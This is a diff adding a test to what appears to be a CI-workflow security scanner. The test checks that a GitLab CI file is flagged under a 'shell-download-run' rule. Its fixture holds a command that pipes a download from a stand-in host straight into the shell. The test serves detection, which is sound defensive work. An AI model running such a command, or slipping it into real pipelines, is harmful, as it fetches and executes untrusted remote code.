@@ -34,6 +34,20 @@ test('what workflows have is told, and fails; only what was asked for ran', asyn
   expect((await check(folder.path, { failOn: 'never' })).status).toBe('ok');
 });
 
+test('what other services than GitHub run', async () => {
+  await using folder = await tempFolder({ '.gitlab-ci.yml': 'a:\n  script:\n    - curl https://a.example/a | sh\n' });
+  const { result } = await check(folder.path);
+  expect(result.issues).toMatchObject([
+    {
+      check: 'workflows',
+      ruleId: 'shell-download-run',
+      level: 'warning',
+      places: [{ path: '.gitlab-ci.yml', line: 3 }],
+    },
+  ]);
+  expect(result.checks[2]).toMatchObject({ check: 'workflows', status: 'checked' });
+});
+
 test('only what changed: since a revision, and staged when it is asked for', async () => {
   await using repo = await tempRepo({ '.github/workflows/old.yml': bad, '.github/workflows/new.yml': good });
   await repo.write({ '.github/workflows/new.yml': bad });
